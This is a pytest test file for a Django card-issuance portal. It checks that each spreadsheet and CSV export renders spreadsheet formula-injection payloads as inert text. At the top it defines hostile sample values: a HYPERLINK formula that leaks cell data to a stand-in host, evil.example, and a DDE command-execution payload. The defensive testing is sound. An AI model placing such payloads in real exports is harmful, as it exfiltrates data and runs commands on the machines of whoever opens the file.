"""Issue 10 finding 5: hostile text written through EVERY .xlsx/.csv the portal produces comes back
as text, never as a formula, and ID / card numbers stay exact text.

Each test goes through the real path a user takes (the page, the admin action, the service the
Celery task runs), re-opens the file (openpyxl for .xlsx, csv for .csv) and checks every cell."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from benefits.services.bankfiles import disbursement_download, disbursement_export
from benefits.services.disbursements import Entry, disbursement_add_entries, disbursement_create
from cardportal import exports
from issuance.lifecycle import cards_transition
from issuance.models import Card
from issuance.services.bankfiles import import_create
from issuance.services.batches import batch_create
from members.models import Member, Union
from members.registration import sheet_import, sheet_upload
from quotas.models import Bulletin
from quotas.services import bulletin_draft

from .factories import ROLE, approve_disbursement, make_member, make_staff
from .issuance.factories import csv_bytes, make_card, make_partner
from .merchants.factories import give_card, make_merchant
from .quotas.factories import at, make_cards, make_quota

pytestmark = pytest.mark.django_db
S = Card.Status

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1"]
ID = "11010519491231002X"


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_xlsx_safe(content: bytes, *, expect: list[str]) -> list:
    """No formula anywhere; every text cell that starts like a formula is quote-prefixed text;
    each of `expect` is there, exactly as typed. Returns the cells."""
    cells = xlsx_cells(content)
    assert [c.coordinate for c in cells if getattr(c, "data_type", None) == "f"] == []
    risky = [c for c in cells if exports.is_formula_like(c.value)]
    assert [c.coordinate for c in risky if not (c.data_type == "s" and c.quotePrefix)] == []
    values = {c.value for c in cells}
    assert [v for v in expect if v not in values] == []
    return cells


def assert_csv_safe(text: str, *, expect: list[str]) -> list[list[str]]:
    """No field starts like a formula; each of `expect` is there with OWASP's leading quote."""
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    fields = [f for row in rows for f in row]
    assert [f for f in fields if f[:1] in exports.FORMULA_TRIGGERS] == []
    assert [v for v in expect if "'" + v not in fields] == []
    return rows


def text_cell(cells, value):
    return next(c for c in cells if c.value == value)


# --- the helper itself ------------------------------------------------------------------------------
def test_csv_value_prefixes_every_trigger_and_leaves_the_rest():
    assert [exports.csv_value(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [exports.csv_value(v) for v in ["王芳", "财务处", "", 5, None, Decimal("-1.5")]] == [
        "王芳", "财务处", "", 5, None, Decimal("-1.5"),
    ]  # fmt: skip


def test_csv_writer_keeps_id_and_card_numbers_as_exact_digits():
    buffer = io.StringIO()
    exports.csv_writer(buffer, text_cols=(0, 1)).writerow([110105194912310021, 6.212260000000001e18, DDE])
    assert buffer.getvalue() == "110105194912310021,6212260000000001024,'=cmd|' /C calc'!A0\r\n"


# --- every export ------------------------------------------------------------------------------------
def test_error_report_keeps_hostile_units_as_text_and_ids_as_text(client, tree, clerk):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["序号", "身份证号", "姓名", "性别", "手机号码", "所属单位"])
    writer.writerows([i, ID, "王芳", "", "", unit] for i, unit in enumerate(HOSTILE, start=1))
    content = buffer.getvalue().encode()
    sheet, _ = sheet_upload(
        union=tree.unit_a1, filename="表.csv", content=content, actor=clerk, enqueue=False
    )
    sheet_import(sheet_id=sheet.pk)
    client.force_login(clerk)
    response = client.get(f"/members/sheets/{sheet.pk}/errors.xlsx")
    assert response.status_code == 200
    cells = assert_xlsx_safe(response.content, expect=[HYPERLINK, DDE, "+1+2", "-3+4", "@SUM(A1:A9)"])
    ids = [c for c in cells if c.value == ID]
    assert len(ids) == len(HOSTILE) and {(c.data_type, c.number_format) for c in ids} == {("s", "@")}


def test_distribution_sheet(client, tree, clerk):
    for unit in HOSTILE:
        make_card(tree.unit_a1, status=S.RECEIVED, name="王五", work_unit=unit)
    client.force_login(clerk)
    response = client.get(f"/issuance/unions/{tree.unit_a1.pk}/distribution-sheet/?format=xlsx")
    cells = assert_xlsx_safe(response.content, expect=[HYPERLINK, DDE, "+1+2", "-3+4", "@SUM(A1:A9)"])
    masked = [c for c in cells if isinstance(c.value, str) and "********" in c.value]
    assert len(masked) == len(HOSTILE) and {(c.data_type, c.number_format) for c in masked} == {("s", "@")}


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_bank_handoff_xlsx_and_csv(
    tree, city_staff, run_tasks_inline, django_capture_on_commit_callbacks, fmt
):
    partner = make_partner()
    partner.handoff_layout = {"format": fmt}
    partner.save()
    make_card(tree.unit_a1, name="张三", id_number=ID, work_unit=HYPERLINK)
    make_card(tree.unit_a1, name="李四", work_unit=DDE)
    Union.objects.filter(pk=tree.unit_a1.pk).update(name="@SUM(A1:A9)")
    with django_capture_on_commit_callbacks(execute=True):
        batch = batch_create(partner=partner, union=tree.unit_a1, actor=city_staff)
    batch.refresh_from_db()
    data = batch.handoff_file.read()
    if fmt == "xlsx":
        cells = assert_xlsx_safe(data, expect=[HYPERLINK, DDE, "@SUM(A1:A9)"])
        id_cell = text_cell(cells, ID)
        assert (id_cell.data_type, id_cell.number_format) == ("s", "@")
    else:
        rows = assert_csv_safe(data.decode("utf-8-sig"), expect=[HYPERLINK, DDE, "@SUM(A1:A9)"])
        assert [r[3] for r in rows[1:]].count(ID) == 1  # the full number, digit for digit


def test_reconciliation_report(
    client, tree, city_staff, run_tasks_inline, django_capture_on_commit_callbacks
):
    make_card(tree.unit_a1, name="张三", id_number=ID)
    bank = make_staff(ROLE.BANK_OPERATOR, tree.city, username="bank")
    with django_capture_on_commit_callbacks(execute=True):
        batch = batch_create(partner=make_partner(), union=tree.unit_a1, actor=city_staff)
    # a CSV: a test .xlsx written with openpyxl would hold the reason as a formula itself
    data = csv_bytes([["证件号码", "姓名", "卡号", "状态", "失败原因"], [ID, "张三", "", "失败", DDE]])
    with django_capture_on_commit_callbacks(execute=True):
        imp = import_create(
            kind="return", union=batch.union, batch=batch, file_name="回盘.csv", data=data, actor=bank
        )
    client.force_login(bank)
    response = client.get(f"/issuance/imports/{imp.pk}/report.xlsx")
    cells = assert_xlsx_safe(response.content, expect=[DDE])
    masked = text_cell(cells, "110105********002X")
    assert (masked.data_type, masked.number_format) == ("s", "@")


def test_progress_report(client, tree, city_staff):
    make_card(tree.unit_a1, status=S.ISSUED)
    Union.objects.filter(pk=tree.county_a.pk).update(name=DDE)
    client.force_login(city_staff)
    response = client.get(f"/issuance/progress/?root={tree.city.pk}&weeks=4&format=xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert_xlsx_safe(response.content, expect=[DDE])


def test_payment_file(tree, city_staff, run_tasks_inline, django_capture_on_commit_callbacks):
    batch = disbursement_create(name="送温暖", kind="warmth", union=tree.city, actor=city_staff)
    members = []
    for name in ["@SUM(A1:A9)", "-3+4"]:
        member = make_member(tree.unit_a1)
        give_card(member)
        Member.objects.filter(pk=member.pk).update(name=name)  # what the export must survive
        member.refresh_from_db()
        members.append(member)
    disbursement_add_entries(
        disbursement=batch,
        entries=[Entry(member=m, amount=Decimal("100"), where="t") for m in members],
        actor=city_staff,
        source="t",
    )
    approve_disbursement(batch, preparer=city_staff, tree=tree)
    with django_capture_on_commit_callbacks(execute=True):
        disbursement_export(disbursement=batch, actor=city_staff)
    batch.refresh_from_db()
    body, _name, _type = disbursement_download(disbursement=batch, actor=city_staff, what="payment")
    rows = assert_csv_safe(body.decode("utf-8-sig"), expect=["@SUM(A1:A9)", "-3+4"])
    numbers = sorted(m.cards.get().number for m in members)
    assert sorted(r[1] for r in rows[1:]) == numbers  # 16–19 digits, exact


def test_league_table_and_bulletin(client, tree, city_staff):
    make_quota(tree.county_a, 2016, target=10, members=100)
    cards = make_cards(tree.unit_a1, 2, applied=at(2016, 3), issued=at(2016, 4))
    cards_transition(cards=cards[:1], to_status="received", at=at(2016, 4, 20))
    Union.objects.filter(pk=tree.county_a.pk).update(name=HYPERLINK)
    client.force_login(city_staff)
    league = client.get(reverse("quotas:league_export"), {"month": "2016-04"})
    assert_xlsx_safe(league.content, expect=[HYPERLINK])
    bulletin = bulletin_draft(month=date(2016, 4, 1))
    Bulletin.objects.filter(pk=bulletin.pk).update(note=DDE)
    response = client.get(reverse("quotas:bulletin_download", args=[bulletin.pk]))
    assert_xlsx_safe(response.content, expect=[HYPERLINK, DDE])


@pytest.mark.parametrize("action", ["export_xlsx", "export_csv"])
def test_merchant_exports(client, tree, admin_user, action):
    merchant = make_merchant(tree.county_a, name=HYPERLINK, address=DDE, contact_phone="03171234567")
    client.force_login(admin_user)
    response = client.post(
        "/admin/merchants/merchant/", {"action": action, "_selected_action": [merchant.pk]}
    )
    assert response.status_code == 200
    if action == "export_xlsx":
        cells = assert_xlsx_safe(response.content, expect=[HYPERLINK, DDE])
        phone = text_cell(cells, "03171234567")
        assert (phone.data_type, phone.number_format) == ("s", "@")
    else:
        rows = assert_csv_safe(response.content.decode(), expect=[HYPERLINK, DDE])
        assert rows[1][5] == "03171234567"
